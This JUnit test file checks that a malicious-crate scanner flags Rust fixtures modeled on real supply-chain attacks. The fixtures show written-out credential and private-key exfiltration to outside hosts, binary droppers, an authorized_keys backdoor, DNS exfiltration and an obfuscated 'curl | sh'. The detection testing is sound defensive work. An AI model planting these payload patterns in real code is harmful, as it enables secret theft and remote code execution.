package dev.warden.evaluate.scan;

import dev.warden.core.Finding;
import dev.warden.evaluate.source.CrateDirectory;
import dev.warden.evaluate.source.TreeLimits;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.stream.Collectors;

import static dev.warden.testing.Fixtures.write;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Crates written from the public descriptions of real malicious crates (RustSec advisories and the crates.io team's
 * incident posts): the shape of each payload, not its code. Each must be flagged at the stated severity, with the
 * chain's steps as evidence.
 */
class RealIncidentsTest {

    @TempDir
    Path dir;

    private CrateScan scan(String name, String file, String source) {
        Path crate = dir.resolve(name);
        write(crate, "Cargo.toml", "[package]\nname = \"" + name + "\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
        write(crate, file, source);
        return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), false, null);
    }

    /** A crate of several files: {@code manifestExtra} goes under [package]'s table, files as path, text pairs. */
    private CrateScan scanFiles(String name, String manifestExtra, String... pathsAndTexts) {
        Path crate = dir.resolve(name);
        write(crate, "Cargo.toml", "[package]\nname = \"" + name + "\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"
                + manifestExtra);
        for (int i = 0; i < pathsAndTexts.length; i += 2) {
            write(crate, pathsAndTexts[i], pathsAndTexts[i + 1]);
        }
        return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), false, null);
    }

    private static Finding finding(CrateScan scan, String id) {
        return scan.findings().stream().filter(f -> f.id().equals(id)).findFirst()
                .orElseThrow(() -> new AssertionError(id + " not in " + scan.findings().stream()
                        .map(f -> f.id() + ":" + f.severity().label()).collect(Collectors.joining(", "))));
    }

    private static List<Integer> lines(Finding finding) {
        return finding.evidence().stream().map(e -> e.line()).toList();
    }

    /** faster_log / async_println (2025): library code sweeps source files for private keys and posts them. */
    @Test
    void aKeySweeperInLibraryCodeIsHigh() {
        CrateScan scan = scan("faster_log", "src/lib.rs", """
                use std::fs;
                pub fn init() {
                    let mut found = Vec::new();
                    for entry in walkdir::WalkDir::new(".") {
                        let text = fs::read_to_string(entry.unwrap().path()).unwrap_or_default();
                        let eth = regex::Regex::new(r"0x[0-9a-fA-F]{64}").unwrap();
                        found.extend(eth.find_iter(&text).map(|m| m.as_str().to_string()));
                    }
                    let _ = reqwest::blocking::Client::new()
                        .post("https://mainnet.solana-rpc-pool.workers.dev/")
                        .body(found.join("\\n")).send();
                }
                """);
        Finding finding = finding(scan, "library-exfiltration");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.message()).contains("files found by walking directories", "workers.dev");
        assertThat(finding.evidence().getFirst().excerpt())
                .isEqualTo("walk walkdir (4) → entry (4) → read (5) → text (5) → found (7) → post (10)");
        assertThat(lines(finding)).containsExactly(4, 5, 7, 10);
    }

    /** rustdecimal (RUSTSEC-2022-0042): only under GitLab CI, downloads a binary, makes it executable, runs it. */
    @Test
    void aCiGatedDropperIsCritical() {
        CrateScan scan = scan("rustdecimal", "src/lib.rs", """
                use std::os::unix::fs::PermissionsExt;
                pub fn new(value: i64) -> i64 {
                    if std::env::var("GITLAB_CI").is_ok() {
                        let body = reqwest::blocking::get("https://oiio.s3.amazonaws.com/git-updater.bin")
                            .and_then(|r| r.bytes()).unwrap_or_default();
                        std::fs::write("/tmp/git-updater.bin", &body).ok();
                        let _ = std::fs::set_permissions("/tmp/git-updater.bin",
                            std::fs::Permissions::from_mode(0o755));
                        let _ = std::process::Command::new("/tmp/git-updater.bin").spawn();
                    }
                    value
                }
                """);
        Finding finding = finding(scan, "dropper-chain");
        assertThat(finding.severity().label()).isEqualTo("critical");
        assertThat(finding.message()).contains("only in CI", "GITLAB_CI");
        assertThat(finding.evidence().getFirst().excerpt())
                .isEqualTo("download reqwest (4) → body (4) → write /tmp/git-updater.bin (6) → set_permissions (7)");
        assertThat(lines(finding)).containsExactly(4, 6, 7, 9, 3);
    }

    /** The polymarket-* family (2025): private keys from the environment, sent to a server of the author's. */
    @Test
    void privateKeysFromTheEnvironmentSentOutAreHigh() {
        CrateScan scan = scan("polymarket-clients-sdk", "src/lib.rs", """
                pub fn connect() {
                    let keys: Vec<String> = ["POLYMARKET_PRIVATE_KEY", "WALLET_PRIVATE_KEY"].iter()
                        .filter_map(|k| std::env::var(k).ok()).collect();
                    let _ = ureq::post("https://api.polymarket-sync.xyz/v1/session").send_string(&keys.join(","));
                }
                """);
        assertThat(finding(scan, "library-exfiltration").severity().label()).isEqualTo("high");
    }

    /** time_calibrator / chrono_anchor (2026): looks for .env files up from the working directory and uploads them. */
    @Test
    void anEnvFileUploaderIsHigh() {
        CrateScan scan = scan("chrono_anchor", "src/lib.rs", """
                pub fn calibrate() {
                    let mut dir = std::env::current_dir().unwrap();
                    loop {
                        let candidate = dir.join(".env");
                        if let Ok(text) = std::fs::read_to_string(&candidate) {
                            let _ = ureq::post("https://timeapi-sync.online/calibrate").send_string(&text);
                        }
                        if !dir.pop() { break; }
                    }
                }
                """);
        Finding finding = finding(scan, "library-exfiltration");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.message()).contains("the contents of .env flows into a connection or request");
        assertThat(finding.evidence().getFirst().excerpt())
                .isEqualTo("path .env (4) → candidate (4) → read (5) → text (5) → post (6)");
    }

    /** microsoftsystem64 (2025): writes the attacker's key into ~/.ssh/authorized_keys, path built in pieces. */
    @Test
    void anAuthorizedKeysWriteIsPersistence() {
        CrateScan scan = scan("microsoftsystem64", "src/lib.rs", """
                use std::io::Write;
                pub fn setup() {
                    let home = dirs::home_dir().unwrap();
                    let path = home.join(".ssh").join("authorized_keys");
                    let mut file = std::fs::OpenOptions::new().append(true).create(true).open(path).unwrap();
                    let _ = file.write_all(b"ssh-ed25519 AAAAC3Nza... attacker\\n");
                }
                """);
        Finding finding = finding(scan, "persistence-write");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.message()).contains(".ssh/authorized_keys");
    }

    /** evm-units (2025): fetches a payload for the platform it runs on, writes it, runs it detached. */
    @Test
    void anOsSpecificDownloaderIsADropper() {
        CrateScan scan = scan("evm-units", "src/lib.rs", """
                pub fn units() {
                    let url = if cfg!(target_os = "windows") { "http://185.212.44.1/w.exe" }
                        else { "http://185.212.44.1/l" };
                    let body = ureq::get(url).call().unwrap().into_string().unwrap();
                    let target = std::env::temp_dir().join("evm-helper");
                    std::fs::write(&target, body).unwrap();
                    let _ = std::process::Command::new("nohup").arg(&target).spawn();
                }
                """);
        Finding finding = finding(scan, "dropper-chain");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.evidence().getFirst().excerpt())
                .isEqualTo("download ureq (4) → body (4) → write target (6) → run (7)");
    }

    @Test
    void aProcMacroThatTurnsOffTlsNextToSecretsIsFlagged() {
        CrateScan scan = scan("tls-helper", "src/lib.rs", """
                pub fn client() -> reqwest::Client {
                    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
                    let _ = std::env::var("AWS_SECRET_ACCESS_KEY");
                    reqwest::Client::builder().danger_accept_invalid_certs(true).build().unwrap()
                }
                """);
        assertThat(finding(scan, "tls-verification-disabled").severity().label()).isEqualTo("high");
        assertThat(finding(scan, "library-exfiltration").message()).contains("TLS verification off");
    }

    /** Textbook variants: a secret name from a decimal byte array, a host from three format! pieces. */
    @Test
    void namesAndHostsBuiltInPiecesAreSeen() {
        CrateScan scan = scan("builder", "build.rs", """
                fn main() {
                    let name = String::from_utf8(vec![65, 87, 83, 95, 83, 69, 67, 82, 69, 84, 95, 65, 67, 67, 69,
                        83, 83, 95, 75, 69, 89]).unwrap();
                    let value = std::env::var(&name).unwrap_or_default();
                    let host = format!("{}.{}.{}", "collect", "drop-zone", "xyz");
                    let _ = std::net::ToSocketAddrs::to_socket_addrs(&format!("{}:53", host));
                    println!("{}", value);
                }
                """);
        Finding exfil = finding(scan, "exfiltration-pattern");
        assertThat(exfil.severity().label()).isEqualTo("critical");
        assertThat(exfil.message()).contains("AWS_SECRET_ACCESS_KEY");
        assertThat(scan.capabilities().toString()).contains("AWS_SECRET_ACCESS_KEY (decoded from a byte array)");
        assertThat(scan.findings().stream().flatMap(f -> f.evidence().stream()).map(e -> e.excerpt()).toList())
                .contains("collect.drop-zone.xyz");
    }

    @Test
    void base64SplitIntoFourFragmentsIsDecodedAfterJoining() {
        String encoded = Base64.getEncoder().encodeToString("GITHUB_TOKEN".getBytes(StandardCharsets.UTF_8));
        int quarter = encoded.length() / 4;
        CrateScan scan = scan("fragments", "build.rs", """
                fn main() {
                    let name = ["%s", "%s", "%s", "%s"].concat();
                    let decoded = base64::decode(&name).unwrap();
                    let secret = std::env::var(String::from_utf8(decoded).unwrap()).unwrap_or_default();
                    let _ = std::net::TcpStream::connect("198.51.100.7:443");
                    drop(secret);
                }
                """.formatted(encoded.substring(0, quarter), encoded.substring(quarter, 2 * quarter),
                encoded.substring(2 * quarter, 3 * quarter), encoded.substring(3 * quarter)));
        assertThat(finding(scan, "obfuscated-literal").message()).contains("GITHUB_TOKEN");
        assertThat(finding(scan, "exfiltration-pattern").severity().label()).isEqualTo("critical");
    }

    @Test
    void xorWithAConstantKeyIsUndone() {
        byte[] plain = "curl -s http://203.0.113.5/x | sh".getBytes(StandardCharsets.UTF_8);
        StringBuilder array = new StringBuilder();
        for (byte b : plain) {
            array.append(array.isEmpty() ? "" : ", ").append(b ^ 0x5A);
        }
        CrateScan scan = scan("xor", "build.rs", """
                fn main() {
                    let command: String = [%s].iter().map(|b| (b ^ 0x5A) as char).collect();
                    let _ = std::process::Command::new("sh").arg("-c").arg(command).status();
                }
                """.formatted(array));
        assertThat(finding(scan, "obfuscated-literal").message()).contains("curl -s http://203.0.113.5/x | sh");
        assertThat(finding(scan, "spawns-network-tool").severity().label()).isEqualTo("high");
    }

    /** A build script that links an archive shipped in the crate: its code is in no source file. */
    @Test
    void aShippedArchiveLinkedByTheBuildScriptIsHigh() {
        Path crate = dir.resolve("fast-hash");
        write(crate, "lib/libfasthash.a", "!<arch>\nprecompiled");
        CrateScan scan = scan("fast-hash", "build.rs", """
                fn main() {
                    println!("cargo:rustc-link-search=native={}/lib", std::env::var("CARGO_MANIFEST_DIR").unwrap());
                    println!("cargo:rustc-link-lib=static=fasthash");
                }
                """);
        Finding finding = finding(scan, "prebuilt-native-linked");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.message()).contains("lib/libfasthash.a");
    }

    /** A build script running a compiled program the crate ships (a "protoc" that is really anything). */
    @Test
    void aShippedProgramRunByTheBuildScriptIsHigh() {
        Path crate = dir.resolve("proto-gen");
        write(crate, "bin/protoc", "\u007fELF\u0002\u0001\u0001 precompiled");
        CrateScan scan = scan("proto-gen", "build.rs", """
                fn main() {
                    let out = std::env::var("OUT_DIR").unwrap();
                    std::process::Command::new("bin/protoc").arg("--rust_out").arg(&out).status().unwrap();
                }
                """);
        Finding finding = finding(scan, "prebuilt-program-run");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.message()).contains("bin/protoc", "ELF executable");
        assertThat(lines(finding)).containsExactly(3, 0);
        // Running the system's protoc, or a script the crate ships, is not this.
        CrateScan system = scan("proto-gen-2", "build.rs", """
                fn main() { std::process::Command::new("protoc").status().unwrap(); }
                """);
        assertThat(system.findings()).noneMatch(f -> f.id().equals("prebuilt-program-run"));
    }

    /** Library code in .init_array runs before main in every program, tests included: next to a spawn, high. */
    @Test
    void aConstructorThatSpawnsIsLoadTimeCode() {
        CrateScan scan = scan("init-helper", "src/lib.rs", """
                #[used]
                #[link_section = ".init_array"]
                static INIT: extern "C" fn() = init;

                extern "C" fn init() {
                    let _ = std::process::Command::new("sh").arg("-c").arg("id").spawn();
                }
                """);
        assertThat(finding(scan, "load-time-code").severity().label()).isEqualTo("high");
    }

    /** The seed attack moved into library code: the payload runs in the program, the secret leaves in DNS names. */
    @Test
    void aSecretFlowingIntoAHostNameInLibraryCodeIsCritical() {
        CrateScan scan = scan("url-parse", "src/lib.rs", """
                use std::net::ToSocketAddrs;
                pub fn parse(url: &str) -> Option<&str> {
                    if let Ok(key) = std::env::var("AWS_SECRET_ACCESS_KEY") {
                        let label: String = key.bytes().map(|b| format!("{:02x}", b)).collect();
                        let host = format!("{}.t.malicious-domain.com:53", label);
                        let _ = host.to_socket_addrs();
                    }
                    url.split("://").nth(1)
                }
                """);
        Finding finding = finding(scan, "library-exfiltration");
        assertThat(finding.severity().label()).isEqualTo("critical");
        assertThat(finding.message()).contains("AWS_SECRET_ACCESS_KEY flows into a host name");
        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("env AWS_SECRET_ACCESS_KEY (3) → key (3) "
                + "→ label (4) → host (5) → to_socket_addrs (6)");
        assertThat(lines(finding)).containsExactly(3, 4, 5, 6);
    }

    /** sha-rust (RUSTSEC-2025-0146): library code reads credential files; the upload lives in another module. */
    @Test
    void credentialFilesSentByAHelperInAnotherModuleAreHigh() {
        CrateScan scan = scanFiles("sha-rust", "", "src/lib.rs", """
                mod report;
                pub fn digest(data: &[u8]) -> [u8; 32] {
                    let home = std::env::var("HOME").unwrap_or_default();
                    let path = std::path::Path::new(&home).join(".aws").join("credentials");
                    if let Ok(text) = std::fs::read_to_string(&path) {
                        report::submit(&text);
                    }
                    [0; 32]
                }
                """, "src/report.rs", """
                pub fn submit(body: &str) {
                    let _ = ureq::post("https://sha-metrics.online/collect").send_string(body);
                }
                """);
        Finding finding = finding(scan, "library-exfiltration");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.message()).contains("the contents of .aws/credentials flows into a connection");
        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("path .aws/credentials (4) → path (4) "
                + "→ read (5) → text (5) → submit(…) (6) → post (src/report.rs:2)");
        assertThat(finding.evidence()).anyMatch(e -> e.file().equals("src/report.rs") && e.line() == 2);
    }

    /** logprinter (RUSTSEC-2026-0084): its trace() downloads code and runs it, through two helpers. */
    @Test
    void aDownloadRunThroughHelpersIsADropper() {
        CrateScan scan = scan("logprinter", "src/lib.rs", """
                use std::io::Write;
                fn fetch(url: &str) -> Vec<u8> {
                    reqwest::blocking::get(url).and_then(|r| r.bytes()).map(|b| b.to_vec()).unwrap_or_default()
                }
                fn stage(path: &std::path::Path, data: &[u8]) {
                    let mut f = std::fs::File::create(path).unwrap();
                    f.write_all(data).unwrap();
                }
                fn launch(path: &std::path::Path) { let _ = std::process::Command::new(path).spawn(); }
                pub fn trace(msg: &str) {
                    println!("{msg}");
                    let target = std::env::temp_dir().join(".lp-cache");
                    let payload = fetch("https://logs-cdn.site/t");
                    stage(&target, &payload);
                    launch(&target);
                }
                """);
        Finding finding = finding(scan, "dropper-chain");
        assertThat(finding.severity().label()).isEqualTo("high");
        assertThat(finding.message()).contains("writes what it downloads to a file and runs it");
        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("download reqwest (3) → fetch() (13) "
                + "→ payload (13) → stage(…) (14) → write path (7) → launch(…) (15) → run (9)");
    }

    /** onering 1.4.1 (RUSTSEC-2026-0175): the build script sends the project's own code and metadata away. */
    @Test
    void aBuildScriptUploadingTheProjectsSourcesIsCritical() {
        CrateScan scan = scanFiles("onering", "build = \"build.rs\"\n", "src/lib.rs", "pub fn ring() {}\n",
                "build.rs", """
                fn main() {
                    let root = std::env::var("CARGO_MANIFEST_DIR").unwrap();
                    let mut bundle = String::new();
                    for entry in walkdir::WalkDir::new(&root).into_iter().flatten() {
                        if let Ok(text) = std::fs::read_to_string(entry.path()) {
                            bundle.push_str(&text);
                        }
                    }
                    let _ = ureq::post("https://crates-telemetry.dev/u").send_string(&bundle);
                }
                """);
        Finding finding = finding(scan, "exfiltration-pattern");
        assertThat(finding.severity().label()).isEqualTo("critical");
        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("walk walkdir (4) → entry (4) → read (5) "
                + "→ text (5) → bundle (6) → post (9)");
    }

    /** A proc macro runs inside the compiler: reading a private key and posting it at expansion is critical. */
    @Test
    void aProcMacroThatSendsAPrivateKeyIsCritical() {
        CrateScan scan = scanFiles("clob-derive", "[lib]\nproc-macro = true\n", "src/lib.rs", """
                use proc_macro::TokenStream;
                #[proc_macro_derive(Order)]
                pub fn derive(input: TokenStream) -> TokenStream {
                    if let Ok(key) = std::env::var("POLYMARKET_PRIVATE_KEY") {
                        let _ = std::net::TcpStream::connect("45.61.1.9:443")
                            .map(|mut s| std::io::Write::write_all(&mut s, key.as_bytes()));
                    }
                    input
                }
                """);
        Finding finding = finding(scan, "exfiltration-pattern");
        assertThat(finding.severity().label()).isEqualTo("critical");
        assertThat(finding.message()).contains("proc macro");
        assertThat(finding.evidence().getFirst().excerpt()).isEqualTo("env POLYMARKET_PRIVATE_KEY (4) → key (4) "
                + "→ connect (5)");
    }

    /** An API client sends its own provider's token to that provider: not exfiltration. */
    @Test
    void anApiClientSendingItsProvidersTokenIsNoExfiltration() {
        CrateScan scan = scan("gh-release", "src/lib.rs", """
                pub fn latest(repo: &str) -> String {
                    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
                    ureq::get(&format!("https://api.github.com/repos/{repo}/releases/latest"))
                        .set("Authorization", &format!("Bearer {token}"))
                        .call().unwrap().into_string().unwrap()
                }
                """);
        assertThat(scan.findings()).noneMatch(f -> f.id().equals("library-exfiltration"));
        assertThat(scan.findings()).anyMatch(f -> f.id().equals("reads-secret-env")
                && f.severity().label().equals("medium"));
        // The same token sent to someone else's server is.
        CrateScan stolen = scan("gh-release-2", "src/lib.rs", """
                pub fn latest(repo: &str) -> String {
                    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
                    ureq::post("https://gh-mirror-cache.xyz/v1").send_string(&token).unwrap().into_string().unwrap()
                }
                """);
        assertThat(finding(stolen, "library-exfiltration").severity().label()).isEqualTo("high");
    }

    /** A binding that defines OpenSSL's "verify nothing" mode (openssl-sys) turns nothing off; using it does. */
    @Test
    void definingTheNoVerifyConstantIsNotUsingIt() {
        CrateScan binding = scan("openssl-sys-like", "src/lib.rs", """
                pub const SSL_VERIFY_NONE: c_int = 0;
                pub const SSL_VERIFY_PEER: c_int = 1;
                """);
        assertThat(binding.findings()).noneMatch(f -> f.id().equals("tls-verification-disabled"));
        CrateScan use = scan("client", "src/lib.rs", """
                pub fn insecure(ctx: *mut SSL_CTX) {
                    unsafe { SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, None) };
                }
                """);
        assertThat(finding(use, "tls-verification-disabled").severity().label()).isEqualTo("medium");
    }
}
